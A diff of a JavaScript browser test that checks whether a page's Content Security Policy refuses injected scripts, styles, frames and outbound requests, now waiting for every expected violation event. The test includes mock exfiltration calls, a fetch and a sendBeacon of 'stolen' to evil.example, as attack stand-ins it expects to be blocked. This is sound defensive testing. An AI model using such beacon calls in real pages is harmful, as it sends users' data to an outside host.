@@ -39,11 +39,26 @@ test("a script finds no session in the page", () =>
 
 test("a script of someone else is neither run nor loaded, and nothing is sent elsewhere", () =>
   onPage(async (page) => {
-    const seen = await page.evaluate(async () => {
+    const directives = [
+      "script-src-elem",
+      "script-src-attr",
+      "img-src",
+      "frame-src",
+      "object-src",
+      "style-src-elem",
+      "base-uri",
+      "connect-src",
+    ];
+    const seen = await page.evaluate(async (directives) => {
       const refused = [];
-      document.addEventListener("securitypolicyviolation", (event) =>
-        refused.push(event.effectiveDirective),
-      );
+      // What is missing after a minute is not refused.
+      const all = new Promise((resolve) => {
+        setTimeout(resolve, 60_000);
+        document.addEventListener("securitypolicyviolation", (event) => {
+          refused.push(event.effectiveDirective);
+          if (directives.every((directive) => refused.includes(directive))) resolve();
+        });
+      });
       const element = (name, properties) =>
         document.body.append(Object.assign(document.createElement(name), properties));
       element("script", { textContent: "window.taken = 1" });
@@ -59,21 +74,14 @@ test("a script of someone else is neither run nor loaded, and nothing is sent el
       document.body.append(markup);
       await fetch("https://evil.example/").catch(() => {});
       navigator.sendBeacon("https://evil.example/", "stolen");
+      await all;
+      // A script of someone else that is under way still gets its turn.
       await new Promise((resolve) => setTimeout(resolve, 500));
       return { refused, taken: window.taken, shown: getComputedStyle(document.body).display };
-    });
+    }, directives);
     assert.equal(seen.taken, undefined);
     assert.notEqual(seen.shown, "none");
-    for (const directive of [
-      "script-src-elem",
-      "script-src-attr",
-      "img-src",
-      "frame-src",
-      "object-src",
-      "style-src-elem",
-      "base-uri",
-      "connect-src",
-    ]) {
+    for (const directive of directives) {
       assert.ok(seen.refused.includes(directive), `${directive} in ${seen.refused}`);
     }
   }));
